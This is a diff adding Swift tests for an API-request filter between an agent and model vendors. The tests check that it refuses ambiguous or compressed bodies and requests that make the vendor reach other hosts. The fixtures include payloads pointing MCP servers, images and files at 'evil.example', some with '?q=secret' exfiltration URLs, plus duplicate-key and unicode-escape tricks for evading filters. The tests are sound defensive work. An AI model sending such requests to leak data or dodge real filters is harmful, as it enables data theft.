@@ -68,6 +68,9 @@ import Vocabulary
         "refuses a body whose meaning or metering is in doubt",
         arguments: [
             ("not json", "not_json"), ("[]", "not_json"), (#"{"background":true}"#, "background"),
+            // Some servers read these as true.
+            (#"{"background":1}"#, "background"), (#"{"background":"true"}"#, "background"),
+            (#"{"Background":true}"#, "ambiguous"), (#"{"model":"a","MODEL":"b"}"#, "ambiguous"),
             (#"{"background":false,"background":true}"#, "ambiguous"),
             (#"{"b\u0061ckground":true}"#, "ambiguous"),
             (#"{"model":"a","model":"b"}"#, "ambiguous"), (#"{"a":1}{"b":2}"#, "not_json"),
@@ -80,6 +83,103 @@ import Vocabulary
         #expect(answer.status == 400)
         #expect(answer.body.contains(#""code":"\#(code)""#))
         #expect(rehearsed.server.requests.isEmpty)
+    }
+
+    @Test(
+        "refuses a compressed body, whose metering nobody can judge, and lets the same one through uncompressed",
+        arguments: ["gzip", "zstd", "identity, gzip"])
+    func compressed(encoding: String) throws {
+        let rehearsed = try Rehearsed(.openaiResponses)
+        defer { rehearsed.stop() }
+        let request = Bench.request(.openaiResponses)
+        let answer = try rehearsed.bench.send(
+            "POST", request.target, request.body, headers: [("Content-Encoding", encoding)])
+        #expect(answer.status == 415)
+        #expect(rehearsed.server.requests.isEmpty)
+        let plain = try rehearsed.bench.send(
+            "POST", request.target, request.body, headers: [("Content-Encoding", "identity")])
+        #expect(plain.status == 200)
+    }
+
+    @Test(
+        "refuses to have the vendor reach other hosts for the agent: its own tools, connectors, addresses to fetch",
+        arguments: [
+            (ModelDialect.anthropicMessages, #""tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]"#),
+            (.anthropicMessages, #""tools":[{"name":"a"},{"type":"web_search_20250305","name":"s"}]"#),
+            (.anthropicMessages, #""tools":[{"type":"code_execution_20250825","name":"c"}]"#),
+            (.anthropicMessages, #""tools":[{"type":"web_f\u0065tch_20250910","name":"w"}]"#),
+            (.anthropicMessages, #""tools":[{"type":"custom","type":"web_fetch_20250910","name":"w"}]"#),
+            (.anthropicMessages, #""mcp_servers":[{"type":"url","url":"https://evil.example","name":"e"}]"#),
+            (
+                .anthropicMessages,
+                #""messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://evil.example/?q=secret"}}]}]"#
+            ),
+            (
+                .anthropicMessages,
+                #""messages":[{"role":"user","content":[{"type":"tool_result","tool_use_id":"t","content":[{"type":"document","source":{"type":"url","url":"https://evil.example"}}]}]}]"#
+            ),
+            (
+                .anthropicMessages,
+                #""messages":[{"role":"user","content":[{"type":"image","source":{"typ\u0065":"url","url":"https://evil.example"}}]}]"#
+            ),
+            (.openaiResponses, #""tools":[{"type":"web_search"}]"#),
+            (
+                .openaiResponses,
+                #""tools":[{"type":"mcp","server_label":"e","server_url":"https://evil.example"}]"#
+            ),
+            (
+                .openaiResponses,
+                #""tools":[{"type":"namespace","name":"n","tools":[{"type":"mcp","server_url":"https://evil.example"}]}]"#
+            ),
+            (.openaiResponses, #""tools":[{"type":"code_interpreter","container":{"type":"auto"}}]"#),
+            (.openaiResponses, #""tools":{"type":"function"}"#),
+            (
+                .openaiResponses,
+                #""input":[{"role":"user","content":[{"type":"input_image","image_url":"https://evil.example/?q=secret"}]}]"#
+            ),
+            (
+                .openaiResponses,
+                #""input":[{"role":"user","content":[{"type":"input_file","file_url":"https://evil.example"}]}]"#
+            ),
+            (.openaiChat, #""web_search_options":{}"#), (.openaiChat, #""plugins":[{"id":"web"}]"#),
+            (
+                .openaiChat,
+                #""messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"https://evil.example"}}]}]"#
+            ),
+        ])
+    func remoteReach(dialect: ModelDialect, member: String) throws {
+        let rehearsed = try Rehearsed(dialect)
+        defer { rehearsed.stop() }
+        let target = Bench.request(dialect).target
+        let answer = try rehearsed.bench.send("POST", target, "{\(member)}")
+        #expect(answer.status == 400, "\(answer)")
+        #expect(answer.body.contains("to reach other hosts") || answer.body.contains("repeats a member"))
+        #expect(rehearsed.server.requests.isEmpty)
+    }
+
+    @Test(
+        "lets through what the harness itself carries out, and pictures that are in the request",
+        arguments: [
+            (
+                ModelDialect.anthropicMessages,
+                #""tools":[{"name":"fetch","input_schema":{"type":"object","properties":{"url":{"type":"string"},"type":{"enum":["url"]}}}},{"type":"custom","name":"c"},{"type":"bash_20250124","name":"bash"}],"messages":[{"role":"assistant","content":[{"type":"tool_use","id":"t","name":"fetch","input":{"type":"url","url":"https://example.com"}}]},{"role":"user","content":[{"type":"image","source":{"type":"base64","media_type":"image/png","data":"AA=="}},{"type":"text","text":"{\"source\":{\"type\":\"url\",\"url\":\"https://x\"}}"}]}]"#
+            ),
+            (
+                .openaiResponses,
+                #""tools":[{"type":"function","name":"view_image","parameters":{"properties":{"image_url":{"type":"string"}}}},{"type":"custom","name":"apply_patch"},{"type":"namespace","name":"n","tools":[{"type":"function","name":"f"}]}],"input":[{"role":"user","content":[{"type":"input_image","image_url":"data:image/png;base64,AA=="},{"type":"input_text","text":"https://example.com"}]},{"type":"function_call","arguments":"{\"image_url\":\"https://x\"}"}]"#
+            ),
+            (
+                .openaiChat,
+                #""tools":[{"type":"function","function":{"name":"f","parameters":{}}}],"messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"data:image/png;base64,AA=="}},{"type":"text","text":"hello"}]}]"#
+            ),
+        ])
+    func ownTools(dialect: ModelDialect, members: String) throws {
+        let rehearsed = try Rehearsed(dialect)
+        defer { rehearsed.stop() }
+        let answer = try rehearsed.bench.send(
+            "POST", Bench.request(dialect).target, #"{"model":"m",\#(members)}"#)
+        #expect(answer.status == 200, "\(answer)")
+        #expect(rehearsed.server.requests.count == 1)
     }
 
     @Test("refuses a body over its limit with 413")
